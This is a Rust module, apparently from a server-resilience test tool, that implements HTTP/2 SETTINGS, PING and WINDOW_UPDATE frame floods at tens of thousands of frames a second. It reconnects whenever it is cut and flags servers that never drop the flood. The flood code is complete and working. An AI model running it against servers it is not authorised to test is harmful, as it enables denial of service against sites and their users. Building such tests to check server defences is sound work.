//! HTTP/2 frames that request nothing and cause work: each is legal, and cheap for the sender.

use std::io::Result;
use std::time::Duration;

use futures_util::future::{LocalBoxFuture, join_all};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::{MissedTickBehavior, interval, sleep};

use crate::attack::{Attack, Met, Tally};
use crate::site::{ATTACKER, Site};
use crate::wire::connect;

/// Concurrent connections.
const CONNECTIONS: usize = 4;

/// Frames written at once; with the pause below, 10,000 a second on each connection.
const FRAMES: usize = 200;
const FRAMES_PAUSE: Duration = Duration::from_millis(20);

/// Wait before a connection that was ended is opened again.
const RETRY_PAUSE: Duration = Duration::from_millis(500);

/// The first bytes of a client, with settings that change nothing.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

/// A flood of one kind of frame.
pub(crate) struct FrameFlood {
    name: &'static str,
    does: &'static str,
    frame: &'static [u8],
}

impl FrameFlood {
    pub(crate) const SETTINGS: Self = Self {
        name: "http2-settings",
        does: "40,000 SETTINGS frames a second on four connections",
        frame: b"\0\0\0\x04\0\0\0\0\0",
    };

    pub(crate) const PING: Self = Self {
        name: "http2-ping",
        does: "40,000 PING frames a second on four connections",
        frame: b"\0\0\x08\x06\0\0\0\0\0attacker",
    };

    /// For the connection, by one byte: the window stays within its limit for days.
    pub(crate) const WINDOW_UPDATE: Self = Self {
        name: "http2-window-update",
        does: "40,000 WINDOW_UPDATE frames a second on four connections",
        frame: b"\0\0\x04\x08\0\0\0\0\0\0\0\0\x01",
    };
}

impl Attack for FrameFlood {
    fn name(&self) -> &'static str {
        self.name
    }

    fn does(&self) -> &'static str {
        self.does
    }

    fn run<'a>(&'a self, site: &'a Site, tally: &'a Tally) -> LocalBoxFuture<'a, ()> {
        let burst = self.frame.repeat(FRAMES);
        Box::pin(async move {
            let floods = (0..CONNECTIONS).map(|_| keep_flooding(site, tally, &burst));
            join_all(floods).await;
        })
    }

    fn complaints(&self, met: &Met) -> Vec<String> {
        let complaint = "no connection that floods was cut".to_owned();
        (met.cut == 0).then_some(complaint).into_iter().collect()
    }
}

async fn keep_flooding(site: &Site, tally: &Tally, burst: &[u8]) {
    loop {
        match connect(ATTACKER, site.address).await {
            Ok(stream) => {
                tally.opened();
                // With or without an error it has ended, and only the server ends it.
                let _ = flood(stream, burst).await;
                tally.cut();
            }
            Err(_) => tally.refused(),
        }
        sleep(RETRY_PAUSE).await;
    }
}

/// Flood a connection and read what comes back, until the server ends it.
async fn flood(mut stream: TcpStream, burst: &[u8]) -> Result<()> {
    stream.write_all(PREFACE).await?;
    let (mut reader, mut writer) = stream.split();
    let mut ticks = interval(FRAMES_PAUSE);
    ticks.set_missed_tick_behavior(MissedTickBehavior::Delay);
    let send = async {
        loop {
            ticks.tick().await;
            writer.write_all(burst).await?;
        }
    };
    let receive = async {
        let mut bytes = vec![0; 64 << 10];
        while reader.read(&mut bytes).await? > 0 {}
        Ok(())
    };
    tokio::select! {
        sent = send => sent,
        received = receive => received,
    }
}
